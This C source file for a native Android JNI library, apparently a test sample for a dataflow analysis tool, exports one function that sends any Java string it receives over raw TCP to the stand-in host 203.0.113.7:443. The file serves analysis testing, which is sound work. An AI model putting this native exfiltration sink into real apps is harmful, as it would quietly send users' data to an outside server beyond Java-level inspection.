/* libnative.so: sends the string it is given to 203.0.113.7:443 over a raw TCP socket.
 * Built with -nostdlib: socket/connect/send stay undefined imports resolved from libc at load
 * time, like an NDK build against Bionic. No jni.h here: the few JNI pieces are declared by hand. */

typedef unsigned long size_t;
typedef long ssize_t;
typedef unsigned int socklen_t;

struct sockaddr_in_min {
    unsigned short sin_family;
    unsigned short sin_port;
    unsigned int sin_addr;
    unsigned char sin_zero[8];
};

extern int socket(int domain, int type, int protocol);
extern int connect(int fd, const void *addr, socklen_t len);
extern ssize_t send(int fd, const void *buf, size_t len, int flags);

typedef void *JNIEnv_;
typedef void *jstring_;

#define JNI_VERSION_1_6 0x00010006
/* indices in JNINativeInterface (jni.h) */
#define JNI_GET_STRING_UTF_CHARS 169
#define JNI_RELEASE_STRING_UTF_CHARS 170

typedef const char *(*get_utf_fn)(JNIEnv_ *, jstring_, unsigned char *);
typedef void (*release_utf_fn)(JNIEnv_ *, jstring_, const char *);

int JNI_OnLoad(void *vm, void *reserved)
{
    (void)vm;
    (void)reserved;
    return JNI_VERSION_1_6;
}

int Java_org_dexflow_sample_multidex_Native_send(JNIEnv_ *env, void *clazz, jstring_ text)
{
    void **table = *(void ***)env;
    get_utf_fn get = (get_utf_fn)table[JNI_GET_STRING_UTF_CHARS];
    release_utf_fn release = (release_utf_fn)table[JNI_RELEASE_STRING_UTF_CHARS];
    const char *chars = get(env, text, 0);
    size_t len = 0;
    struct sockaddr_in_min addr = {2 /* AF_INET */, 0xbb01 /* htons(443) */, 0, {0}};
    int fd;
    (void)clazz;

    /* 203.0.113.7 in network byte order */
    addr.sin_addr = 203u | (0u << 8) | (113u << 16) | (7u << 24);
    while (chars[len] != 0)
        len++;
    fd = socket(2 /* AF_INET */, 1 /* SOCK_STREAM */, 0);
    if (fd >= 0 && connect(fd, &addr, sizeof addr) == 0)
        send(fd, chars, len, 0);
    release(env, text, chars);
    return fd;
}
